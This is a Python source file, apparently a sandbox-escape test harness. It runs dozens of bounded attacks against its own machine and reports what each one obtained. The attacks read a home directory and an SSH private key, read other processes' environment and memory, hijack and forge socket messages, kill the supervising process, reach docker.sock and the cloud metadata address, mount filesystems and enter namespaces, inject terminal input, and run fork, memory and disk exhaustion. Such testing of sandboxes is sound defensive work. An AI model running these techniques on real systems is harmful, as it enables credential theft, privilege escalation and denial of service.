"""Attacks on the machine that a process runs on, each a function: it returns what it took, None where it failed.

A program of its own (Python 3.8, standard library), so that the very same attack is tried without a wall and within:

    python3 -I attacks.py '{"home": "/where/somebody/lives", ...}' [NAME]...

prints one line of JSON for each attack; `docs/attacks.py` sets up what is attacked, and tells the results. Every attack
is bounded: it opens what it must not have, and never uses it to do harm. What it is aimed at:

- `home`, `workspace`, `data`, `outside`: a person's home, a file of another task, one of the data directory, a folder
- `victim`, `watcher`: processes with `OF_VALUE=...` in their environment; the second holds a socket, and may be ended
- `socket`, `abstract`, `port`: servers on a Unix socket, an abstract one, and on 127.0.0.1 and 169.254.169.254
- `setuid`, `disk`, `tmp`: a copy of id(1) with root's set-user-id bit, a block device, where temporary files go
- `hold`: for how many seconds what was filled stays full
"""

import ctypes
import errno
import fcntl
import json
import os
import platform
import pty
import select
import signal
import socket
import stat
import struct
import sys
import termios
import time
from typing import Callable, Dict, List, NamedTuple, Optional, Tuple

Target = Dict[str, str]
Taken = Optional[str]
Attempt = Callable[[Target], Taken]

SECONDS = 12
_libc = ctypes.CDLL(None, use_errno=True)
_X86 = platform.machine() == "x86_64"
# Numbers of system calls on x86-64 and arm64 (asm/unistd_64.h, asm-generic/unistd.h).
_CALLS = {
    "mount": (165, 40), "umount2": (166, 39), "unshare": (272, 97), "setns": (308, 268), "chroot": (161, 51),
    "add_key": (248, 217), "bpf": (321, 280), "perf_event_open": (298, 241), "userfaultfd": (323, 282),
    "io_uring_setup": (425, 425), "open_tree": (428, 428), "fsopen": (430, 430), "clone3": (435, 435),
    "pidfd_open": (434, 434), "pidfd_getfd": (438, 438), "process_vm_readv": (310, 270), "syslog": (103, 116),
    "ptrace": (101, 117), "name_to_handle_at": (303, 264), "open_by_handle_at": (304, 265),
}  # fmt: skip


class Attack(NamedTuple):
    """One attack."""

    name: str
    kind: str
    attempt: Attempt
    alone: bool  # it may take along whoever runs beside it


ATTACKS: List[Attack] = []


def attack(kind: str, name: str, *, alone: bool = False) -> Callable[[Attempt], Attempt]:
    """Put a function among the attacks."""

    def take(attempt: Attempt) -> Attempt:
        ATTACKS.append(Attack(name, kind, attempt, alone))
        return attempt

    return take


def call(name: str, *arguments: object) -> int:
    """A system call by its number. Raises `OSError`."""
    words = [ctypes.c_long(word) if isinstance(word, int) else word for word in arguments]
    ctypes.set_errno(0)
    answer = _libc.syscall(ctypes.c_long(_CALLS[name][0 if _X86 else 1]), *words)
    if answer == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return int(answer)


def contents(path: str) -> Taken:
    """What a file begins with."""
    with open(path, "rb") as file:
        return file.read(200).decode("utf-8", "replace")


# ---- files


@attack("files", "write outside the workspace")
def write_outside(target: Target) -> Taken:
    path = os.path.join(target["outside"], f"planted-{os.getpid()}")
    with open(path, "w") as file:
        file.write("planted")
    os.unlink(path)
    return path


@attack("files", "read somebody's home directory")
def read_home(target: Target) -> Taken:
    return contents(os.path.join(target["home"], "notes.txt"))


@attack("files", "read an ssh key")
def read_key(target: Target) -> Taken:
    return contents(os.path.join(target["home"], ".ssh/id_ed25519"))


@attack("files", "read another task's workspace")
def read_workspace(target: Target) -> Taken:
    return contents(target["workspace"])


@attack("files", "read the data directory")
def read_data(target: Target) -> Taken:
    return contents(target["data"])


@attack("files", "follow a link, or `..`, to a file of the host")
def follow_link(target: Target) -> Taken:
    link = f"way-out-{os.getpid()}"
    os.symlink(target["home"] + "/notes.txt", link)
    try:
        return contents(link)
    except OSError:
        return contents("../" * 40 + target["home"].lstrip("/") + "/notes.txt")
    finally:
        os.unlink(link)


@attack("files", "open a file by its handle, past every directory")
def open_handle(target: Target) -> Taken:
    # struct file_handle: bytes, type, handle; the root's own inode number is 2 on ext4 (open_by_handle_at(2)).
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    mount = ctypes.c_int()
    call("name_to_handle_at", -100, target["outside"].encode(), handle, ctypes.byref(mount), 0)
    folder = os.open(target["outside"], os.O_RDONLY)
    found = call("open_by_handle_at", folder, handle, os.O_RDONLY)
    return os.readlink(f"/proc/self/fd/{found}")


@attack("files", "leave a file of root's, with its set-user-id bit, in the workspace")
def leave_root_file(target: Target) -> Taken:
    path = f"root-{os.getpid()}"
    with open(path, "w"):
        os.chmod(path, 0o4755)
    facts = os.stat(path)
    os.unlink(path)
    return "owned by root, set-user-id" if facts.st_uid == 0 and facts.st_mode & stat.S_ISUID else None


@attack("files", "become root by a set-user-id program")
def run_setuid(target: Target) -> Taken:
    if os.geteuid() == 0:
        return None
    reading, writing = os.pipe()
    if os.fork() == 0:
        os.dup2(writing, 1)
        os.execv(target["setuid"], [target["setuid"], "-u"])
    os.wait()
    said = os.read(reading, 100).decode().strip()
    return "uid 0" if said == "0" else None


@attack("files", "make a device node")
def make_device(target: Target) -> Taken:
    path = f"device-{os.getpid()}"
    os.mknod(path, 0o600 | stat.S_IFCHR, os.makedev(1, 5))
    os.unlink(path)
    return "/dev/zero, anew"


@attack("files", "read the host's disk under its files")
def read_disk(target: Target) -> Taken:
    with open(target["disk"], "rb") as disk:
        return f"{len(disk.read(512))} bytes" if disk else None


# ---- processes


def others(target: Target) -> List[int]:
    """Processes that are not ours: the victim by its number on the host, and the watcher, process 1 inside."""
    return [int(target["victim"]), int(target["watcher"])]


def either(target: Target, take: Callable[[int], Taken]) -> Taken:
    """What is taken from one of them, the last failure where that is nothing."""
    failure: Optional[OSError] = None
    for process in others(target):
        try:
            if taken := take(process):
                return taken
        except OSError as error:
            failure = error
    if failure:
        raise failure
    return None


@attack("processes", "read the environment of a host process")
def read_environment(target: Target) -> Taken:
    def take(process: int) -> Taken:
        with open(f"/proc/{process}/environ", "rb") as file:
            words = file.read().decode("utf-8", "replace").split("\0")
        return next((word for word in words if word.startswith("OF_VALUE=")), None)

    return either(target, take)


@attack("processes", "read the memory of a host process")
def read_memory(target: Target) -> Taken:
    def take(process: int) -> Taken:
        with open(f"/proc/{process}/maps") as maps:
            stack = next(line for line in maps if "[stack]" in line).split()[0]
        start, end = (int(part, 16) for part in stack.split("-"))
        with open(f"/proc/{process}/mem", "rb", 0) as memory:
            memory.seek(start)
            return "a secret of its stack" if b"OF_VALUE=" in memory.read(end - start) else None

    return either(target, take)


@attack("processes", "read the memory of a host process by process_vm_readv")
def read_memory_at_once(target: Target) -> Taken:
    victim = int(target["victim"])
    with open(f"/proc/{victim}/maps") as maps:
        start = int(maps.readline().split("-")[0], 16)
    there = ctypes.create_string_buffer(64)
    ours = (ctypes.c_ulong * 2)(ctypes.addressof(there), 64)
    theirs = (ctypes.c_ulong * 2)(start, 64)
    return f"{call('process_vm_readv', victim, ours, 1, theirs, 1, 0)} bytes"


@attack("processes", "trace a host process")
def trace(target: Target) -> Taken:
    return either(target, lambda process: f"seized, {call('ptrace', 0x4206, process, 0, 0)}")  # PTRACE_SEIZE


@attack("processes", "signal a host process")
def send_signal(target: Target) -> Taken:
    os.kill(int(target["victim"]), signal.SIGCONT)
    return "SIGCONT sent"


@attack("processes", "take a socket out of another process and speak in its name")
def speak_for_another(target: Target) -> Taken:
    """The agent's messages, forged: as `{kind, id, code}` of machine.c, saying that command 1 ended well."""
    said = struct.pack("=IIi", 3, 1, 0)
    for process in (int(target["watcher"]), os.getppid(), os.getpid()):
        for number in range(3, 12):
            try:
                handle = call("pidfd_open", process, 0)
                taken = socket.socket(fileno=call("pidfd_getfd", handle, number, 0))
            except OSError:
                try:
                    taken = socket.socket(fileno=os.open(f"/proc/{process}/fd/{number}", os.O_RDWR))
                except OSError:
                    continue
            if taken.family == socket.AF_UNIX and taken.send(said) == len(said):
                return f"descriptor {number} of process {process}"
    return None


@attack("processes", "read a descriptor that was left open")
def read_inherited(target: Target) -> Taken:
    for name in os.listdir("/proc/self/fd"):
        try:
            if int(name) > 2 and stat.S_ISREG(os.fstat(int(name)).st_mode):
                return os.pread(int(name), 100, 0).decode("utf-8", "replace") or None
        except OSError:
            continue
    return None


@attack("processes", "end what watches over it, process 1 inside")
def end_watcher(target: Target) -> Taken:
    watcher = int(target["watcher"])
    os.kill(watcher, signal.SIGKILL)
    time.sleep(0.2)
    with open(f"/proc/{watcher}/stat") as file:
        state = file.read().rpartition(")")[2].split()[0]
    return "it is dead" if state in "ZX" else None


# ---- sockets


def connected(family: int, address: object) -> Taken:
    """What is said to whoever connects."""
    with socket.socket(family, socket.SOCK_STREAM) as client:
        client.settimeout(2)
        client.connect(address)  # type: ignore[arg-type]
        return client.recv(100).decode() or None


@attack("sockets", "reach a Unix socket of the host, like docker.sock")
def reach_socket(target: Target) -> Taken:
    return connected(socket.AF_UNIX, target["socket"])


@attack("sockets", "reach an abstract Unix socket of the host")
def reach_abstract(target: Target) -> Taken:
    return connected(socket.AF_UNIX, "\0" + target["abstract"])


@attack("sockets", "reach a server on the host's loopback")
def reach_loopback(target: Target) -> Taken:
    return connected(socket.AF_INET, ("127.0.0.1", int(target["port"])))


@attack("sockets", "reach the address under which clouds give credentials to their machines")
def reach_metadata(target: Target) -> Taken:
    return connected(socket.AF_INET, ("169.254.169.254", int(target["port"])))


@attack("sockets", "ask a name server")
def ask_name(target: Target) -> Taken:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(1)
        client.sendto(b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x04leak\x04test\0\0\x01\0\x01", ("127.0.0.1", 53))
        return client.recv(100).decode("utf-8", "replace")


@attack("sockets", "open a raw socket")
def open_raw(target: Target) -> Taken:
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()
    return "opened"


@attack("sockets", "open a packet socket")
def open_packet(target: Target) -> Taken:
    socket.socket(17, socket.SOCK_RAW, 0).close()
    return "opened"


@attack("sockets", "open a socket to the hypervisor (vsock)")
def open_vsock(target: Target) -> Taken:
    socket.socket(40, socket.SOCK_STREAM, 0).close()
    return "opened"


@attack("sockets", "hear the kernel's events by netlink")
def open_netlink(target: Target) -> Taken:
    with socket.socket(16, socket.SOCK_RAW, 15) as events:  # NETLINK_KOBJECT_UEVENT
        events.bind((0, 1))
    return "subscribed"


@attack("sockets", "reach the kernel's ciphers (AF_ALG)")
def open_alg(target: Target) -> Taken:
    with socket.socket(38, socket.SOCK_SEQPACKET, 0) as cipher:
        cipher.bind(("hash", "sha256"))
    return "bound"


# ---- kernel


@attack("kernel", "mount a file system")
def mount(target: Target) -> Taken:
    place = f"mounted-{os.getpid()}"
    os.mkdir(place)
    try:
        call("mount", b"tmpfs", place.encode(), b"tmpfs", 0, b"size=4k")
        call("umount2", place.encode(), 2)
    finally:
        os.rmdir(place)
    return "mounted"


@attack("kernel", "mount by the newer calls (fsopen)")
def new_mount(target: Target) -> Taken:
    return f"descriptor {call('fsopen', b'tmpfs', 1)}"


@attack("kernel", "take a tree of mounts (open_tree)")
def take_tree(target: Target) -> Taken:
    return f"descriptor {call('open_tree', -100, b'/', 1)}"  # OPEN_TREE_CLONE


@attack("kernel", "make a user namespace of its own (unshare)")
def new_user(target: Target) -> Taken:
    call("unshare", 0x10000000)
    return "made"


@attack("kernel", "make a user namespace of its own (clone3)")
def new_user_by_clone(target: Target) -> Taken:
    words = struct.pack("11Q", 0x10000000, 0, 0, 0, signal.SIGCHLD, 0, 0, 0, 0, 0, 0)
    child = call("clone3", ctypes.create_string_buffer(words, len(words)), len(words))
    if child == 0:
        os._exit(0)
    os.waitpid(child, 0)
    return "made"


@attack("kernel", "enter the namespace of a host process")
def enter(target: Target) -> Taken:
    def take(process: int) -> Taken:
        return f"entered, {call('setns', os.open(f'/proc/{process}/ns/uts', os.O_RDONLY), 0)}"

    return either(target, take)


@attack("kernel", "change the root directory")
def change_root(target: Target) -> Taken:
    call("chroot", b"/")
    return "changed"


@attack("kernel", "put a key into a key ring")
def put_key(target: Target) -> Taken:
    return f"key {call('add_key', b'user', b'pullwright-attack', b'x', 1, -2)}"  # of the process


@attack("kernel", "load a BPF map")
def load_bpf(target: Target) -> Taken:
    words = struct.pack("5I", 2, 4, 4, 1, 0) + bytes(100)  # an array of one number
    return f"descriptor {call('bpf', 0, ctypes.create_string_buffer(words, len(words)), len(words))}"


@attack("kernel", "set up io_uring")
def set_up_ring(target: Target) -> Taken:
    return f"descriptor {call('io_uring_setup', 4, ctypes.create_string_buffer(120))}"


@attack("kernel", "handle page faults (userfaultfd)")
def handle_faults(target: Target) -> Taken:
    return f"descriptor {call('userfaultfd', 1)}"  # of user space alone, which needs no right


@attack("kernel", "watch the processor (perf_event_open)")
def watch_processor(target: Target) -> Taken:
    words = struct.pack("IIQ", 1, 112, 0) + bytes(24) + struct.pack("Q", 0x61) + bytes(64)
    return f"descriptor {call('perf_event_open', ctypes.create_string_buffer(words, len(words)), 0, -1, -1, 0)}"


@attack("kernel", "read the kernel's log")
def read_log(target: Target) -> Taken:
    return f"{call('syslog', 3, ctypes.create_string_buffer(4096), 4096)} bytes"


@attack("kernel", "enter by the 32-bit door (int 0x80)")
def enter_32_bit(target: Target) -> Taken:
    if not _X86:
        return None
    import mmap

    # mov eax, 20 (getpid of i386); int 0x80; ret
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(b"\xb8\x14\0\0\0\xcd\x80\xc3")
    entry = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    return "it answered" if entry() == os.getpid() else None


@attack("kernel", "choose what runs at a crash (core_pattern)")
def core_pattern(target: Target) -> Taken:
    os.close(os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY))
    return "opened to write"


@attack("kernel", "reach the emergency keys (sysrq-trigger)")
def sysrq(target: Target) -> Taken:
    os.close(os.open("/proc/sysrq-trigger", os.O_WRONLY))
    return "opened to write"


@attack("kernel", "type into the terminal of whoever started it (TIOCSTI)")
def type_for_others(target: Target) -> Taken:
    child, terminal = pty.fork()
    if child == 0:
        try:
            fcntl.ioctl(0, termios.TIOCSTI, b"!")
        except OSError:
            os._exit(1)
        os._exit(0)
    _, status = os.waitpid(child, 0)
    os.close(terminal)
    return "typed" if status == 0 else None


# ---- resources, bounded


@attack("resources", "fork without end")
def fork_bomb(target: Target) -> Taken:
    born: List[int] = []
    try:
        while len(born) < 300:
            child = os.fork()
            if child == 0:
                time.sleep(SECONDS)
                os._exit(0)
            born.append(child)
    finally:
        for child in born:
            os.kill(child, signal.SIGKILL)
    return f"{len(born)} processes"


@attack("resources", "take memory without end")
def memory_bomb(target: Target) -> Taken:
    taken = [b"x" * 1024**2 for _ in range(300)]
    return f"{len(taken)} MiB"


def _fill(folder: str, target: Target) -> Taken:
    path = os.path.join(folder, f"fill-{os.getpid()}")
    with open(path, "wb", 0) as file:
        for _ in range(24):
            file.write(bytes(1024**2))
        time.sleep(float(target["hold"]))
    os.unlink(path)
    return "24 MiB"


@attack("resources", "fill the disk from the workspace", alone=True)
def fill_workspace(target: Target) -> Taken:
    return _fill(".", target)


@attack("resources", "fill the disk from /tmp", alone=True)
def fill_tmp(target: Target) -> Taken:
    return _fill(target["tmp"], target)


@attack("resources", "fill the disk with files that have no name", alone=True)
def fill_nameless(target: Target) -> Taken:
    with open(f"nameless-{os.getpid()}", "wb", 0) as file:
        os.unlink(file.name)
        for _ in range(24):
            file.write(bytes(1024**2))
        time.sleep(float(target["hold"]))
    return "24 MiB"


@attack("resources", "use up the inodes", alone=True)
def fill_inodes(target: Target) -> Taken:
    folder = f"inodes-{os.getpid()}"
    os.mkdir(folder)
    for number in range(1500):
        open(f"{folder}/{number}", "w").close()
    time.sleep(float(target["hold"]))
    for number in range(1500):
        os.unlink(f"{folder}/{number}")
    os.rmdir(folder)
    return "1500 files"


def _tried(one: Attack, target: Target) -> Tuple[Taken, str]:
    """What it took, or why it took nothing; in a process of its own."""
    reading, writing = os.pipe()
    child = os.fork()
    if child == 0:
        os.close(reading)
        os.setsid()
        try:
            taken, why = one.attempt(target), "nothing came of it"
        except OSError as error:
            taken, why = None, errno.errorcode.get(error.errno or 0, str(error))
        except Exception as error:
            taken, why = None, f"{type(error).__name__}: {error}"
        os.write(writing, json.dumps([taken, why]).encode())
        os._exit(0)
    os.close(writing)
    ready, _, _ = select.select([reading], [], [], SECONDS)
    said = os.read(reading, 65536) if ready else b""
    os.close(reading)
    if not ready:
        os.kill(child, signal.SIGKILL)
    _, status = os.waitpid(child, 0)
    if said:
        taken, why = json.loads(said)
        return taken, why
    signalled = os.WIFSIGNALED(status)
    return (
        None,
        f"ended by signal {os.WTERMSIG(status)}" if signalled and ready else f"nothing within {SECONDS} seconds",
    )


def main() -> None:
    """Try the attacks that are named, or all that need not be alone."""
    target = json.loads(sys.argv[1])
    names = sys.argv[2:]
    for one in ATTACKS:
        if one.name in names if names else not one.alone:
            taken, why = _tried(one, target)
            print(json.dumps({"name": one.name, "taken": taken, "why": why}), flush=True)


if __name__ == "__main__":
    main()
